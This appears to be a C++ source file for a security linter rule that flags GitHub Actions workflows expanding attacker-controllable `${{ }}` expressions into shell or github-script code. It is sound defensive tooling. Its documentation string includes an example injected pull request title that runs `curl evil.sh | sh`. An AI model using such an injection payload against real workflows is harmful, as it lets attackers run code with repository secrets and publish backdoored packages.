// MOAT-WF006: attacker-controllable `${{ }}` expressions expanded into shell scripts.
#include <fmt/format.h>

#include <iterator>
#include <optional>

#include "moat/publish/rules/helpers.hpp"

namespace moat::publish {

namespace {

/// Contexts any GitHub user can fill with arbitrary text (issue titles, branch names, commit messages).
constexpr std::string_view kAttackerControlled[]{
    "github.event.issue.title",           "github.event.issue.body",
    "github.event.pull_request.title",    "github.event.pull_request.body",
    "github.event.pull_request.head.ref", "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch", "github.event.comment.body",
    "github.event.review.body",           "github.event.review_comment.body",
    "github.event.pages",                 "github.event.commits",
    "github.event.head_commit.message",   "github.event.head_commit.author.email",
    "github.event.head_commit.author.name", "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message", "github.event.workflow_run.head_commit.author",
    "github.event.workflow_run.display_title", "github.event.workflow_run.pull_requests",
    "github.head_ref",                    "github.event.discussion.title",
    "github.event.discussion.body",       "github.event.issue.labels",
    "github.event.pull_request.labels",
};

/// Leaves of github.event that are numbers, booleans, hashes or fixed vocabularies.
constexpr std::string_view kSafeLeaves[]{
    "number", "id", "sha", "node_id", "created_at", "updated_at", "merged", "draft", "state", "action", "size",
    "private", "fork", "login", "html_url", "url", "merge_commit_sha"};

bool is_identifier_char(char c) {
  return std::isalnum(static_cast<unsigned char>(c)) != 0 || c == '_' || c == '-' || c == '.' || c == '*';
}

/// Context references in an expression: dotted names such as github.event.issue.title.
std::vector<std::string> context_references(std::string_view expression) {
  std::vector<std::string> references;
  std::size_t at = 0;
  while (at < expression.size()) {
    if (expression[at] == '\'') {  // skip string literals
      const auto close = expression.find('\'', at + 1);
      at = close == std::string_view::npos ? expression.size() : close + 1;
      continue;
    }
    if (!std::isalpha(static_cast<unsigned char>(expression[at])) && expression[at] != '_') {
      ++at;
      continue;
    }
    std::size_t end = at;
    while (end < expression.size() && is_identifier_char(expression[end])) ++end;
    // github.event['x'] style indexing: keep the bracketed key as a path element.
    std::string reference(expression.substr(at, end - at));
    while (end + 1 < expression.size() && expression[end] == '[' && expression[end + 1] == '\'') {
      const auto close = expression.find('\'', end + 2);
      if (close == std::string_view::npos) break;
      reference += "." + std::string(expression.substr(end + 2, close - end - 2));
      end = close + 1;
      if (end < expression.size() && expression[end] == ']') ++end;
      while (end < expression.size() && is_identifier_char(expression[end])) reference.push_back(expression[end++]);
    }
    if (reference.find('.') != std::string::npos) references.push_back(reference);
    at = end;
  }
  return references;
}

struct Risk {
  Severity severity;
  std::string_view why;
};

std::optional<Risk> risk_of(std::string_view reference) {
  for (std::string_view dangerous : kAttackerControlled)
    if (reference.starts_with(dangerous) &&
        (reference.size() == dangerous.size() || reference[dangerous.size()] == '.'))
      return Risk{Severity::high, "is text any GitHub user can choose"};
  if (reference.starts_with("github.event.inputs.") || reference.starts_with("inputs."))
    return Risk{Severity::medium, "is caller-supplied input"};
  if (reference.starts_with("github.event.")) {
    const auto leaf = reference.substr(reference.rfind('.') + 1);
    if (std::ranges::find(kSafeLeaves, leaf) != std::end(kSafeLeaves) || leaf.ends_with("_at") || leaf.ends_with("_id") ||
        leaf.ends_with("_sha") || leaf.ends_with("_count"))
      return std::nullopt;
    if (reference.starts_with("github.event.repository.") || reference.starts_with("github.event.sender."))
      return std::nullopt;
    return Risk{Severity::medium, "comes from the triggering event"};
  }
  if ((reference.starts_with("steps.") || reference.starts_with("needs.")) &&
      reference.find(".outputs.") != std::string_view::npos)
    return Risk{Severity::low, "may carry text computed from untrusted input"};
  return std::nullopt;
}

void check_code(const WorkflowRule& rule, const YamlDocument& document, const YamlNode& code, std::string_view kind,
                FindingSink& sink) {
  for (const Expression& expression : find_expressions(document, code)) {
    std::optional<Risk> worst;
    std::string worst_reference;
    for (const auto& reference : context_references(expression.inner)) {
      auto risk = risk_of(reference);
      if (risk && (!worst || risk->severity > worst->severity)) {
        worst = risk;
        worst_reference = reference;
      }
    }
    if (!worst) continue;
    const Mark start = document.mark_at(expression.offset);
    sink.add(rule, start, document.mark_at(expression.offset + expression.length),
             fmt::format("`{}` {} and is pasted into the {} before it runs: it can inject commands; pass it through "
                         "`env:` and quote \"$VAR\" instead",
                         worst_reference, worst->why, kind),
             FindingExtras().at(worst->severity).detail("context", worst_reference));
  }
}

void check_github(const WorkflowRule& rule, const GithubWorkflow& workflow, FindingSink& sink) {
  const YamlDocument& document = workflow.doc();
  for (const Job& job : workflow.jobs) {
    for (const Step& step : job.steps) {
      if (step.run != nullptr && step.run->kind == NodeKind::scalar)
        check_code(rule, document, *step.run, "shell script", sink);
      if (step.action.name == "actions/github-script")
        if (const YamlNode* script = document.get(step.with, "script"); script != nullptr)
          check_code(rule, document, *script, "github-script code", sink);
    }
  }
}

}  // namespace

const WorkflowRule& template_injection_rule() {
  static const WorkflowRule rule{
      .doc = {
          .id = "MOAT-WF006",
          .title = "template-injection",
          .what = "Finds `${{ ... }}` expressions in `run:` scripts and actions/github-script `script:` that expand "
                  "attacker-controllable contexts: issue, pull request, comment and review titles and bodies, branch "
                  "names (`github.head_ref`, `...head.ref`), commit messages and authors (high); workflow inputs and "
                  "other event fields (medium); step and job outputs (low).",
          .why = "GitHub substitutes expressions into the script text before the shell sees it, so a pull request "
                 "titled `a\"; curl evil.sh | sh; echo \"` becomes code running with the job's token and secrets; "
                 "in a release workflow that means publishing a backdoored package.",
          .example = "- run: echo \"Releasing ${{ github.event.pull_request.title }}\"\n",
          .fix = "- run: echo \"Releasing $TITLE\"\n"
                 "  env:\n"
                 "    TITLE: ${{ github.event.pull_request.title }}\n",
          .references = "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections\n"
                        "https://docs.zizmor.sh/audits/#template-injection",
      },
      .severity = Severity::high,
      .confidence = Confidence::high,
      .cwe = 94,
      .github = check_github,
  };
  return rule;
}

}  // namespace moat::publish
